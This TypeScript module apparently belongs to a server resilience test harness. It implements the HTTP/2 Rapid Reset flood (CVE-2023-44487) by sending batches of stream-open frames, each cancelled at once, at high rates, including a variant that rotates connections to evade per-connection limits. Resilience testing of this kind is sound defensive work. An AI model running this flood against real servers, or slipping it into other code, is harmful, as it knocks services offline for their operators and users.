import type { Attack } from "../attack.ts";
import { callHeaders, headersFrame, resetFrame, validatePath } from "../attack-connection.ts";
import { flood, summaryOf } from "../flood.ts";

const block = callHeaders(validatePath);
const PAIRS = 20;

/** CVE-2023-44487: calls that are cancelled as soon as they are sent, beyond every stream limit. */
function rapidReset(name: string, rate: number, unitsPerConnection?: number): Attack {
  return {
    name,
    shows: "streams that are opened and reset at once cost others nothing (CVE-2023-44487)",
    async run(target, scale) {
      const result = await flood(target, scale, {
        rate: scale.full ? rate * 4 : rate,
        ...(unitsPerConnection !== undefined && { unitsPerConnection }),
        next(connection) {
          const frames = Array.from({ length: PAIRS }, () => {
            const id = connection.streamId();
            return Buffer.concat([headersFrame(id, block), resetFrame(id)]);
          });
          return { units: PAIRS, bytes: Buffer.concat(frames) };
        },
      });
      // Otherwise nothing has been attacked.
      const failures = result.units > 1000 ? [] : ["too few resets were sent"];
      return { summary: summaryOf("resets", result), failures };
    },
  };
}

export const attacks: readonly Attack[] = [
  rapidReset("rapid-reset", 5000),
  // Below the limit of a connection, which is renewed instead.
  { ...rapidReset("rapid-reset, new connections", 3000, 900), fullOnly: true },
];
